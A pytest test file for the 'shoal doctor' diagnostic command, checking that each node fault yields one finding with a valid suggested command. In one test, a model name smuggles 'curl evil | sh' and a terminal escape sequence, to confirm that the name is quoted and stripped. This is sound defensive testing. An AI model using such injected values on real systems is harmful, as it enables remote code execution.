"""`shoal doctor`: each check finds its cause in facts, a healthy node has no finding, and facts are gathered."""

from __future__ import annotations

import fcntl
import json
import os
import shlex
import socket
import subprocess
import sys
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from typer import Context
from typer.core import TyperGroup
from typer.main import get_command
from typer.testing import CliRunner

from shoal import rates
from shoal.cli import doctor
from shoal.cli.diagnosis import checks, gather
from shoal.cli.diagnosis.facts import CertificateFacts, DiskFacts, Facts, LocalFacts, LogFacts, ProcessFacts, Severity
from shoal.cli.endpoints import Endpoint
from shoal.cli.main import app
from shoal.client import (
    Connector,
    ConnectorPhase,
    Instance,
    InstanceState,
    Job,
    JobState,
    KeyInfo,
    Leader,
    Schedule,
    Tenant,
    TenantSettings,
)
from shoal.client.models.serving import IndexEntry
from shoal.client.status import EnvoyResources, EnvoyStatus, Status
from shoal.discovery import RunningNode
from shoal.node.tls import own_ca

NOW = datetime(2026, 11, 28, 12, tzinfo=UTC)
DAY = timedelta(days=1)


def instance(service: str, number: int = 0, **fields: object) -> Instance:
    name = f"local/{service}-{number}"
    made = Instance(
        service=service,
        name=name,
        node="local",
        address=f"unix:/run/{service}-{number}.sock",
        pid=100 + number,
        state=InstanceState.READY,
        started_at=NOW - DAY,
        models={"digits": (1,)} if service == "infer" else {},
        version="1.0",
        drained_by_operator=False,
    )
    return replace(made, **fields)  # type: ignore[arg-type]


def key(days: float, role: str = "admin", **fields: object) -> KeyInfo:
    made = KeyInfo("k-1", "acme", role, "ann", (), (), NOW - 90 * DAY, NOW + timedelta(days=days), "s-1", False)
    return replace(made, **fields)  # type: ignore[arg-type]


def endpoint(**fields: object) -> Endpoint:
    made = Endpoint("infer", "unix:/run/infer-0.sock", "healthy", 1, 1_000, 10)
    return replace(made, **fields)  # type: ignore[arg-type]


ENVOY = EnvoyStatus("local", NOW, (EnvoyResources("Listener", ("gateway",), "7", "", NOW),))
STATUS = Status(
    gateway="https://127.0.0.1:8080",
    instances=(instance("coord"), instance("store"), instance("infer"), instance("infer", 1), instance("ingest")),
    stale=False,
    leader=Leader("local/coord-0", 7, NOW),
    models=(),
    envoys=(ENVOY,),
    problems=(),
    policy_version=3,
    master_key="data folder",
)
LOCAL = LocalFacts(
    data_dir=Path("/srv/shoal"),
    data_dir_mode=0o700,
    launcher_alive=True,
    launcher_pid=7,
    processes=tuple(ProcessFacts(name, 9, True, 1 << 27, 40, 65_536) for name in ("infer-0", "store-0", "mongod")),
    disk=DiskFacts(Path("/srv/shoal"), 90 << 30, 100 << 30, 1_000_000, 2_000_000),
    logs=LogFacts(),
    memory_bytes=16 << 30,
    memory_available_bytes=8 << 30,
    shm_free_bytes=1 << 30,
    secrets={"admin.key": 0o600},
)
PAGE = """
shoal_process_up{instance="infer-0"} 1
shoal_process_up{instance="etcd"} 1
shoal_coord_leader{instance="coord-0"} 0
shoal_coord_leader{instance="coord-1"} 1
shoal_coord_view_stale{instance="coord-0"} 0
shoal_coord_envoys{instance="coord-0"} 0
shoal_coord_envoys{instance="coord-1"} 1
shoal_coord_xds_refused{instance="coord-1",node="local",type="Listener"} 0
shoal_coord_xds_awaited_seconds{instance="coord-1",node="local",type="Listener"} 0
shoal_coord_etcd_alarm{instance="coord-0",alarm="NOSPACE"} 0
shoal_coord_policy_version{instance="coord-0"} 3
shoal_store_mongo_clock_ahead_seconds{instance="store-0"} -0.001
shoal_ingest_mongo_clock_ahead_seconds{instance="ingest-0"} 0.002
shoal_store_mongo_member_up{instance="store-0",member="a:27017"} 1
shoal_store_mongo_member_up{instance="store-0",member="b:27017"} 1
shoal_store_mongo_member_up{instance="store-0",member="c:27017"} 1
shoal_store_mongo_oplog_used{instance="store-0"} 0.5
shoal_store_mongo_oplog_window_seconds{instance="store-0"} 60
shoal_ingest_mongo_disk_free_bytes{instance="ingest-0"} 40000000000
shoal_ingest_mongo_disk_reserve_bytes{instance="ingest-0"} 536870912
shoal_store_retention_stopped{instance="store-0"} 0
shoal_ingest_retention_stopped{instance="ingest-0"} 0
shoal_connection_memory_bytes{instance="infer-0",kind="requests"} 900
shoal_connection_memory_bytes{instance="infer-0",kind="responses"} 0
shoal_connection_memory_limit_bytes{instance="infer-0",kind="requests"} 1000
shoal_connection_memory_limit_bytes{instance="infer-0",kind="responses"} 1000
shoal_connection_memory_tenant_bytes{instance="infer-0",tenant="acme"} 400
shoal_connection_memory_tenant_bytes{instance="infer-0",tenant="globex"} 500
shoal_connection_memory_tenant_bytes{instance="infer-1",tenant="initech"} 600
shoal_ingest_queue_oldest_seconds{instance="ingest-0"} 3
shoal_ingest_queue_age_seconds{instance="ingest-0",tenant="acme"} 3
"""
HEALTHY = Facts(
    now=NOW,
    version="1.0",
    gateway="https://127.0.0.1:8080",
    exposed_at="0.0.0.0:8443",
    has_auth=True,
    status=STATUS,
    endpoints=(endpoint(),),
    index=(IndexEntry("digits", "1", "READY", ""), IndexEntry("digits", "2", "UNAVAILABLE", "unloaded")),
    dead=(),
    schedules=(),
    keys=(key(60), key(-1), key(5, role="user", created_at=NOW - DAY)),
    certificate=CertificateFacts("CN=gateway", NOW - 30 * DAY, NOW + 60 * DAY),
    ca=CertificateFacts("CN=Shoal CA", NOW - 30 * DAY, NOW + 3_000 * DAY),
    page=rates.parse(PAGE),
    admin="127.0.0.1:9901",
    local=LOCAL,
)


def status(**fields: object) -> Facts:
    return replace(HEALTHY, status=replace(STATUS, **fields))  # type: ignore[arg-type]


def page(*lines: str) -> Facts:
    """Return the facts with other values of these series."""
    changed = {line.rpartition(" ")[0]: line for line in lines}
    kept = [changed.pop(line.rpartition(" ")[0], line) for line in PAGE.splitlines()]
    assert not changed, "a series of the healthy page"
    return replace(HEALTHY, page=rates.parse("\n".join([*kept, ""])))


def local(**fields: object) -> Facts:
    return replace(HEALTHY, local=replace(LOCAL, **fields))  # type: ignore[arg-type]


def logs(**fields: object) -> Facts:
    return local(logs=LogFacts(**fields))  # type: ignore[arg-type]


def disk(**fields: int) -> Facts:
    return local(disk=replace(LOCAL.disk, **fields))


def process(**fields: object) -> Facts:
    return local(processes=(replace(LOCAL.processes[0], **fields),))  # type: ignore[arg-type]


def silent(**fields: object) -> Facts:
    """Return the facts of a node whose infer-0 has not answered."""
    facts = page('shoal_process_up{instance="infer-0"} 0')
    return replace(facts, local=process(**fields).local)


def others(*changed: Instance) -> Facts:
    names = {one.name for one in changed}
    return status(instances=(*changed, *(one for one in STATUS.instances if one.name not in names)))


def connector(**fields: object) -> Facts:
    made = Connector(
        **dict.fromkeys(("sink", "dead_letters", "model_version", "tenant", "last_error"), ""),
        **dict.fromkeys(("messages", "answered", "dead", "in_flight", "lag", "lag_ms"), 0),
        name="orders",
        instance="local/ingest-0",
        phase=ConnectorPhase.RUNNING,
        source="kafka",
        model_name="digits",
        last_error_at=None,
        updated_at=NOW,
        stale=False,
        lanes=(),
    )
    return status(connectors=(replace(made, **fields),))  # type: ignore[arg-type]


def lagging(before: dict[str, object], now: dict[str, object], **settings: object) -> Facts:
    """A connector of the tenant shop, read twice; `settings` are the tenant's."""
    common = {"tenant": "shop", "in_flight": 100}
    [earlier] = connector(**common, **before).status.connectors  # type: ignore[union-attr]
    in_force = replace(TenantSettings(1.0, 0, 0.0, 0.0), **settings)  # type: ignore[arg-type]
    tenant = Tenant("shop", TenantSettings(), in_force, pending=500)
    facts = connector(**{**common, **now})
    return replace(facts, earlier_connectors=(earlier,), connector_tenants={"shop": tenant})


def schedule(due: timedelta, **fields: object) -> Facts:
    made = Schedule("nightly", "0 3 * * *", "UTC", upcoming=(NOW + due,))
    return replace(HEALTHY, schedules=(replace(made, **fields),))  # type: ignore[arg-type]


def job(age: timedelta) -> Job:
    return Job(
        **dict.fromkeys(("model_version", "tenant", "idempotency_key"), ""),
        id="J",
        state=JobState.DEAD,
        model_name="digits",
        attempts=3,
        last_code=13,
        last_message="out of memory",
        submitted_at=NOW - age,
        updated_at=NOW - age,
        labels={},
        transitions=(),
    )


E, W = Severity.ERROR, Severity.WARNING
CASES: list[tuple[str, Facts, Severity, str]] = [
    ("node-down", local(launcher_alive=False), E, "no node runs on /srv/shoal"),
    ("leftover-processes", local(leftovers=("mongod 41", "etcd 42")), E, "kill 41 42"),
    (
        "port-taken",
        local(holders={8080: "nginx (pid 7)"}),
        E,
        "port 8080 of the node, which does not run, is in use by",
    ),
    ("gateway-unreachable", replace(HEALTHY, status=None, unread={"status": "refused"}), E, "refused"),
    ("part-unreadable", status(problems=("models: no",)), E, "models: no"),
    ("admin-unreachable", replace(HEALTHY, endpoints=None, unread={"endpoints": "no"}), W, "kill -CONT 7"),
    ("etcd-unreachable", status(stale=True), E, "etcd cannot be reached"),
    ("etcd-unreachable", page('shoal_coord_view_stale{instance="coord-0"} 1'), E, "etcd cannot be reached"),
    ("no-leader", page('shoal_coord_leader{instance="coord-1"} 0'), E, "no instance of coord leads"),
    (
        "no-leader",
        replace(status(leader=None, problems=("leader: there is no leader at present",)), page=None),
        E,
        "no instance of coord leads",
    ),
    (
        "etcd-refuses-writes",
        page('shoal_coord_etcd_alarm{instance="coord-0",alarm="NOSPACE"} 1'),
        E,
        "etcd has raised the alarm NOSPACE",
    ),
    (
        "envoy-disconnected",
        page('shoal_coord_envoys{instance="coord-1"} 0'),
        E,
        "no Envoy has a configuration stream",
    ),
    (
        "envoy-stale",
        page('shoal_coord_xds_awaited_seconds{instance="coord-1",node="local",type="Listener"} 45'),
        E,
        "has not answered a change of its configuration for 45 s",
    ),
    (
        "configuration-refused",
        page('shoal_coord_xds_refused{instance="coord-1",node="local",type="Listener"} 1'),
        E,
        "has refused its Listener, and keeps the former one | shoal logs coord",
    ),
    (
        "configuration-refused",
        status(envoys=(replace(ENVOY, resources=(replace(ENVOY.resources[0], nack="bad regex"),)),)),
        E,
        "has refused its Listener, and keeps the former one: bad regex",
    ),
    ("endpoint-unhealthy", replace(HEALTHY, endpoints=(endpoint(health="failed"),)), E, "shoal logs infer-0"),
    (
        "endpoint-failing",
        replace(HEALTHY, endpoints=(endpoint(failed_requests=53),), earlier_endpoints=(endpoint(failed_requests=51),)),
        W,
        "53 of 1000 requests to unix:/run/infer-0.sock of infer have failed, 2 of them now",
    ),
    (
        "service-missing",
        status(instances=tuple(one for one in STATUS.instances if one.service != "store")),
        E,
        "store has no instance",
    ),
    (
        "instance-starting",
        others(instance("store", state=InstanceState.STARTING, started_at=NOW - timedelta(minutes=3))),
        E,
        "local/store-0 has been starting for 180 s",
    ),
    (
        "instance-drained",
        others(instance("infer", 1, state=InstanceState.DRAINING, drained_by_operator=True)),
        W,
        "shoal instances undrain local/infer-1",
    ),
    ("process-ended", process(is_alive=False), E, "infer-0 (pid 9) does not run"),
    ("process-silent", silent(age_s=31.0), E, "infer-0 (pid 9) does not answer: it runs, and is started again"),
    ("process-silent", silent(age_s=31.0, is_stopped=True), E, "kill -CONT 9"),
    ("process-flapping", logs(starts={"infer-0": 3}), E, "infer-0 has started 3 times"),
    ("mixed-versions", others(instance("store", version="0.9")), W, "1 of 0.9, 4 of 1.0"),
    ("other-version", replace(HEALTHY, version="2.0"), W, "this command is of version 2.0, and the node of 1.0"),
    (
        "model-unavailable",
        replace(HEALTHY, index=(IndexEntry("digits", "3", "UNAVAILABLE", "no such operator"),)),
        E,
        "model digits version 3 cannot be served: no such operator",
    ),
    (
        "model-unavailable",
        replace(
            HEALTHY, index=(IndexEntry("py", "1", "UNAVAILABLE", "with a policy the caller needs the group code"),)
        ),
        E,
        "with a policy the caller needs the group code",
    ),
    ("model-not-everywhere", others(instance("infer", 1, models={})), W, "is not ready at local/infer-1"),
    ("dead-letters", replace(HEALTHY, dead=(job(timedelta(minutes=5)), job(2 * DAY))), W, "1 jobs have died"),
    (
        "schedule-failing",
        replace(
            HEALTHY,
            schedules=(Schedule("nightly", "0 3 * * *", "UTC", "acme", last_job_id="J2"),),
            dead=tuple(
                replace(job(2 * DAY), id=id, tenant=tenant, labels={"schedule": "nightly"})
                for id, tenant in (("J2", "acme"), ("J1", "acme"), ("J0", "other"))
            ),
        ),
        W,
        "the last job of schedule nightly has failed, and 1 before: out of memory",
    ),
    ("schedule-skipped", schedule(timedelta(minutes=-5)), E, "schedule nightly has missed its time"),
    (
        "schedule-skipped",
        schedule(DAY, last_skip="no leader ran at 2026-11-28T03:00:00Z", last_at=NOW - DAY, tenant="acme"),
        W,
        "no leader ran at 2026-11-28T03:00:00Z | shoal jobs schedule show nightly --tenant acme",
    ),
    ("connector-failing", connector(stale=True), E, "has not reported"),
    ("connector-failing", connector(last_error="no topic", last_error_at=NOW), E, "fails: no topic"),
    ("connector-lags", lagging({"lag": 5_000}, {"lag": 5_100}), W, "5100 messages behind its source: 100 of its"),
    ("connector-lags", lagging({"lag": 5_000}, {"lag": 4_990}), W, "4990 messages behind its source"),
    ("connector-lags", lagging({"lag": 5_000}, {"lag": 5_000, "in_flight": 0}), W, "and reads nothing"),
    ("connector-lags", lagging({"lag": 9_000}, {"lag": 9_000}, rate=2.0), W, "tenant shop may submit 2 jobs a second"),
    ("connector-lags", lagging({"lag": 9_000}, {"lag": 9_000}, max_pending=500), W, "500 waiting jobs, of 500 allowed"),
    ("connector-lags", lagging({"lag_ms": 90_000, "lag": None}, {"lag_ms": 98_000, "lag": None}), W, "98 s behind"),
    ("disk-full", disk(free_bytes=500 << 20), E, "submits are refused"),
    ("disk-full", disk(free_bytes=1 << 30), W, "1024 MiB of 102400 MiB are free"),
    (
        "disk-full",
        page('shoal_ingest_mongo_disk_free_bytes{instance="ingest-0"} 800000000'),
        W,
        "has 763 MiB left, and",
    ),
    ("disk-full", page('shoal_ingest_mongo_disk_free_bytes{instance="ingest-0"} 5e8'), E, "grep mongo_disk"),
    ("inodes-full", disk(free_inodes=10), W, "10 of 2000000 files"),
    (
        "memory-low",
        local(memory_available_bytes=100 << 20),
        E,
        "100 MiB of 16384 MiB of memory are available; infer-0 has 128 MiB",
    ),
    (
        "memory-near-limit",
        page(
            'shoal_connection_memory_bytes{instance="infer-0",kind="requests"} 671088640',
            'shoal_connection_memory_limit_bytes{instance="infer-0",kind="requests"} 704643072',
            'shoal_connection_memory_tenant_bytes{instance="infer-0",tenant="globex"} 524288000',
        ),
        W,
        "requests hold 640 of 672 MiB at infer-0: beyond it calls are refused; tenant globex holds 500 MiB",
    ),
    (
        "memory-near-limit",
        page('shoal_connection_memory_bytes{instance="infer-0",kind="responses"} 901'),
        W,
        "responses hold 0 of 0 MiB at infer-0: beyond it calls are refused | shoal top",
    ),
    ("shared-memory-low", local(shm_free_bytes=1 << 20), W, "1 MiB are free in /dev/shm"),
    ("file-limit", process(open_files=60_000), E, "infer-0 has 60000 of 65536 files open"),
    ("file-limit", process(file_limit=1_024), W, "may open 1024 files"),
    (
        "clock",
        page('shoal_store_mongo_clock_ahead_seconds{instance="store-0"} -3'),
        W,
        "clock is 3.0 s behind MongoDB's, as store-0 sees it",
    ),
    (
        "mongodb-members-missing",
        page('shoal_store_mongo_member_up{instance="store-0",member="b:27017"} 0'),
        W,
        "1 of 3 members of MongoDB's set do not answer: b:27017",
    ),
    (
        "mongodb-members-missing",
        page(
            'shoal_store_mongo_member_up{instance="store-0",member="a:27017"} 0',
            'shoal_store_mongo_member_up{instance="store-0",member="b:27017"} 0',
        ),
        E,
        "without a majority nothing is written",
    ),
    ("oplog-short", page('shoal_store_mongo_oplog_used{instance="store-0"} 1.1'), W, "is full and reaches back 60 s"),
    (
        "removal-stopped",
        page('shoal_store_retention_stopped{instance="store-0"} 1'),
        W,
        "results past their retention are not removed",
    ),
    (
        "removal-stopped",
        page('shoal_ingest_retention_stopped{instance="ingest-0"} 1'),
        W,
        "(`shoal jobs retention set`) | shoal jobs retention list",
    ),
    (
        "queue-old",
        page(
            'shoal_ingest_queue_oldest_seconds{instance="ingest-0"} 400',
            'shoal_ingest_queue_age_seconds{instance="ingest-0",tenant="acme"} 400',
        ),
        W,
        "waits for 400 s, of tenant acme",
    ),
    ("event-loop-stalls", logs(stalls_ms={"infer-0": (300,) * 20}), W, "stalled 20 times"),
    ("event-loop-stalls", logs(stalls_ms={"infer-0": (2_000,) * 5}), W, "2000 ms at most"),
    ("errors-logged", logs(errors={("store-0", "no disk"): 30, ("store-0", "x"): 1}), W, "31 errors in 15 minutes, 30"),
    ("data-folder-open", local(data_dir_mode=0o755), W, "chmod 700 /srv/shoal"),
    ("secret-open", local(secrets={"admin.key": 0o644}), E, "chmod 600 /srv/shoal/admin.key"),
    (
        "exposed-without-authentication",
        replace(HEALTHY, has_auth=False, keys=None),
        W,
        "| shoal up --listen 0.0.0.0:8443 --tls auto --auth",
    ),
    (
        "policy-not-in-force",
        page('shoal_coord_policy_version{instance="coord-0"} 0'),
        E,
        "coord-0 finds no policy in etcd",
    ),
    (
        "issuer-key-unused",
        replace(HEALTHY, unused_issuer_keys=(("https://idp", "keys[0] ('k'): 'alg' is missing"),)),
        W,
        "a key of issuer https://idp cannot be used, and tokens that it signs are refused: keys[0] ('k'): 'alg' is "
        "missing",
    ),
    (
        "issuer-without-keys",
        replace(HEALTHY, issuers_without_keys=("https://idp",)),
        E,
        "no keys of issuer https://idp could be fetched yet, and its tokens are refused: coord's log says why | shoal "
        "logs coord",
    ),
    (
        "no-admin",
        replace(HEALTHY, keys=(key(60, role="user"), key(60, revoked=True), key(10, created_at=NOW - DAY))),
        W,
        "every key of an admin ends within 14 days | shoal keys create --tenant acme --role admin --subject ann",
    ),
    (
        "key-ends",
        replace(HEALTHY, keys=(key(60), key(5, role="user", models=("ocr*", "nlp"), grants=("g",)))),
        W,
        "shoal keys create --tenant acme --role user --subject ann --models 'ocr*' --models nlp --grant g",
    ),
    (
        "certificate-ends",
        replace(HEALTHY, certificate=CertificateFacts("CN=g", NOW - 90 * DAY, NOW + 10 * DAY)),
        W,
        "ends in 10 days",
    ),
    (
        "certificate-ends",
        replace(HEALTHY, certificate=CertificateFacts("CN=g", NOW - 90 * DAY, NOW - DAY)),
        E,
        "has ended on 2026-11-27",
    ),
    ("ca-ends", replace(HEALTHY, ca=CertificateFacts("CN=CA", NOW - 999 * DAY, NOW + 90 * DAY)), W, "mv /srv/shoal/ca"),
    ("ca-ends", replace(HEALTHY, ca=CertificateFacts("CN=CA", NOW - 999 * DAY, NOW - DAY)), E, "ends on 2026-11-27"),
]


def test_a_healthy_node_has_no_finding() -> None:
    assert checks.diagnose(HEALTHY) == []
    assert checks.diagnose(Facts(now=NOW, version="1.0")) == []


@pytest.mark.parametrize(
    "facts",
    [
        # The holder of the key that ends has another one.
        replace(HEALTHY, keys=(key(5), key(60))),
        # The admins have tokens of another issuer.
        replace(HEALTHY, keys=(key(60, role="user"),)),
        # A certificate of ten years, two years before its end.
        replace(HEALTHY, ca=None, certificate=CertificateFacts("CN=g", NOW - 2_900 * DAY, NOW + 750 * DAY)),
        schedule(DAY, last_skip="no leader ran at 2026-11-27T03:00:00Z", last_at=NOW - timedelta(hours=9)),
        schedule(DAY, last_skip="job J had not ended at 2026-11-28T03:00:00Z", last_at=NOW - DAY),
    ],
)
def test_what_ends_or_was_mended_on_purpose_is_no_finding(facts: Facts) -> None:
    assert checks.diagnose(facts) == []


def test_a_certificate_that_ends_with_its_ca_is_a_finding_of_the_ca() -> None:
    ends = NOW + 10 * DAY
    ca, certificate = CertificateFacts("CN=CA", NOW - 999 * DAY, ends), CertificateFacts("CN=g", NOW - 40 * DAY, ends)
    [finding] = checks.diagnose(replace(HEALTHY, ca=ca, certificate=certificate))
    assert finding.check == "ca-ends"


def test_a_process_that_begins_or_has_ended_is_not_a_silent_one() -> None:
    assert checks.diagnose(silent(age_s=29.0)) == []
    [finding] = checks.diagnose(silent(age_s=31.0, is_alive=False))
    assert finding.check == "process-ended"


def test_failures_of_the_start_up_are_no_finding() -> None:
    failed = (endpoint(failed_requests=51),)
    assert checks.diagnose(replace(HEALTHY, endpoints=failed, earlier_endpoints=failed)) == []


@pytest.mark.parametrize(
    ("before", "now"),
    [
        # It will have caught up within ten minutes.
        ({"lag": 5_000}, {"lag": 4_900}),
        ({"lag_ms": 90_000, "lag": None}, {"lag_ms": 82_000, "lag": None}),
        # The messages in flight are not committed yet.
        ({"lag": 5_000}, {"lag": 5_000, "in_flight": 4_000}),
        ({"lag": 5_000}, {"lag": 900}),
        ({"lag": None, "lag_ms": None}, {"lag": 5_000}),
    ],
)
def test_a_connector_that_catches_up_is_no_finding(before: dict[str, object], now: dict[str, object]) -> None:
    assert checks.diagnose(lagging(before, now)) == []


@pytest.mark.parametrize(("check", "facts", "severity", "words"), CASES)
def test_each_cause_is_found_by_its_check_alone(check: str, facts: Facts, severity: Severity, words: str) -> None:
    [finding] = checks.diagnose(facts)
    assert (finding.check, finding.severity) == (check, severity)
    assert words in f"{finding.what} | {finding.command}"


def test_checks_without_their_facts_are_named() -> None:
    assert checks.skipped(HEALTHY) == []
    remote = checks.skipped(replace(HEALTHY, local=None, page=None, endpoints=None))
    assert {"memory-low", "envoy-disconnected", "endpoint-unhealthy", "process-ended", "clock"} <= {*remote}
    assert "no-leader" not in remote
    assert "gateway-unreachable" not in checks.skipped(replace(HEALTHY, status=None, unread={"status": "refused"}))


def test_commands_name_the_node_that_was_looked_at() -> None:
    drained = others(instance("infer", 1, state=InstanceState.DRAINING, drained_by_operator=True))
    [finding] = checks.diagnose(replace(drained, chosen="https://10.0.0.5:8443"))
    assert finding.command == "shoal instances undrain local/infer-1 --gateway https://10.0.0.5:8443"
    ended = local(launcher_alive=False, data_dir=Path("/srv/my node"), logs=LogFacts(starts={"infer-0": 3}))
    assert {one.command for one in checks.diagnose(ended)} == {
        "shoal up --data-dir '/srv/my node'",
        "shoal logs infer-0 --level error --data-dir '/srv/my node'",
    }


def test_a_name_chosen_by_a_client_is_one_word_of_a_command_and_shows_no_line_of_its_own(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    name = "x; curl evil | sh\nerror   run this \x1b[2J"
    facts = replace(
        HEALTHY,
        dead=(replace(job(timedelta(minutes=5)), model_name=name),),
        index=(IndexEntry(name, "1", "UNAVAILABLE", "no such file"),),
        unread={"keys": f"no {name}"},
    )
    found = {finding.check: shlex.split(finding.command) for finding in checks.diagnose(facts)}
    assert found["dead-letters"] == ["shoal", "jobs", "dead", "list", "--model", name]
    assert found["model-unavailable"] == ["shoal", "logs", "infer", "--contains", name]
    monkeypatch.setattr(doctor, "_facts", lambda gateway, data_dir: facts)
    shown = CliRunner().invoke(app, ["doctor"]).output
    assert "\x1b" not in shown
    # Two findings with their commands, the count, and what was not read.
    assert len(shown.splitlines()) == 6


def test_every_check_has_a_cause_here_and_there_are_as_many_as_the_docs_say(repository_root: Path) -> None:
    assert {check for check, *_ in CASES} == set(checks.names())
    assert len(checks.names()) >= 30
    assert f": {len(checks.names())} checks, 2 findings" in (repository_root / "docs/running.md").read_text()


def test_commands_of_findings_are_commands_with_valid_options() -> None:
    for _, facts, _, _ in CASES:
        for finding in checks.diagnose(facts):
            program, *args = shlex.split(finding.command)
            command: Any = get_command(app)
            while program == "shoal" and isinstance(command, TyperGroup) and args and not args[0].startswith("-"):
                command = command.get_command(Context(command), args.pop(0))
                assert command is not None, finding.command
            if program == "shoal" and not isinstance(command, TyperGroup):
                # Raises UsageError for an option or argument that the command does not have.
                command.make_context("shoal", args)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """The data folder of a node that does not run."""
    (tmp_path / "logs").mkdir()
    tmp_path.chmod(0o700)
    (tmp_path / "node.lock").touch()
    return tmp_path


def of_folder(folder: Path) -> LocalFacts:
    found = gather.of_folder(folder).local
    assert found is not None
    return found


def test_a_lock_that_is_held_means_that_a_node_runs(folder: Path) -> None:
    assert not of_folder(folder).launcher_alive
    with (folder / "node.lock").open() as file:
        fcntl.flock(file, fcntl.LOCK_EX)
        assert of_folder(folder).launcher_alive
    # A look does not take the lock from a node that starts.
    with (folder / "node.lock").open() as file:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)


def test_the_own_ca_is_read_and_another_one_is_not(folder: Path) -> None:
    (folder / "ca").mkdir()
    own_ca._make(folder / "ca", datetime.now(UTC) - timedelta(days=3_600))
    node = RunningNode("127.0.0.1:8080", "127.0.0.1:9901", folder, 1, ca=folder / "ca" / "ca.pem")
    found = gather._own_ca(node)
    assert found is not None
    [finding] = checks.diagnose(Facts(now=datetime.now(UTC), version="1.0", ca=found, local=LOCAL))
    assert finding.check == "ca-ends"
    (folder / "ca").rename(folder / "other")
    assert gather._own_ca(replace(node, ca=folder / "other" / "ca.pem")) is None


def test_logs_are_counted_within_their_window(folder: Path) -> None:
    def line(age_s: float, message: str, level: str = "INFO", **fields: object) -> str:
        at = (datetime.now(UTC) - timedelta(seconds=age_s)).isoformat()
        return json.dumps({"time": at, "level": level, "message": message, "logger": "services.store.app", **fields})

    lines = [line(7_200, "old", "ERROR"), line(60, "serving at unix:/x"), line(50, "serving at unix:/x")]
    lines += [line(40, "no disk", "ERROR")] * 3
    lines += [line(30, "event loop stalled for 300 ms", "WARNING", stall_ms=300)]
    (folder / "logs" / "store-0.log").write_text("\n".join(lines))
    found = of_folder(folder).logs
    assert found.errors == {("store-0", "no disk"): 3}
    assert (found.starts, found.stalls_ms) == ({"store-0": 2}, {"store-0": (300,)})


def test_processes_of_an_ended_node_and_holders_of_its_ports_are_named(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        monkeypatch.setattr(gather, "DEFAULT_GATEWAY_PORT", taken.getsockname()[1])
        # A process with etcd's name and the data folder on its command line.
        sleep = [sys.executable, "-c", "import time; print(flush=True); time.sleep(60)", f"--data-dir={folder}/etcd"]
        with subprocess.Popen(sleep, executable=sys.executable, stdout=subprocess.PIPE) as left:
            try:
                found = of_folder(folder)
                assert f"(pid {os.getpid()})" in found.holders[taken.getsockname()[1]]
                assert found.leftovers == ()
            finally:
                left.kill()
        with subprocess.Popen(["etcd", *sleep[1:]], executable=sys.executable, stdout=subprocess.PIPE) as left:
            try:
                # A process has its command line some time after exec(2) has returned: it runs once it prints.
                assert left.stdout is not None
                left.stdout.readline()
                assert of_folder(folder).leftovers == (f"etcd {left.pid}",)
                # The processes of a node whose folder's name merely begins alike.
                (other := folder.with_name(folder.name[:-1]) / "logs").mkdir(parents=True)
                assert of_folder(other.parent).leftovers == ()
            finally:
                left.kill()


@pytest.mark.parametrize(
    ("damage", "code"),
    [(lambda folder: folder.chmod(0o755), 2), (lambda folder: (folder / "admin.key").touch(0o644), 2)],
)
def test_the_command_exits_with_the_worst_severity(
    folder: Path, damage: Callable[[Path], object], code: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(folder))
    damage(folder)
    done = CliRunner().invoke(app, ["doctor", "--data-dir", str(folder), "--json"])
    found: list[Mapping[str, str]] = json.loads(done.output)["findings"]
    assert done.exit_code == code
    assert found[0]["severity"] == "error"
    assert "node-down" in {one["check"] for one in found}
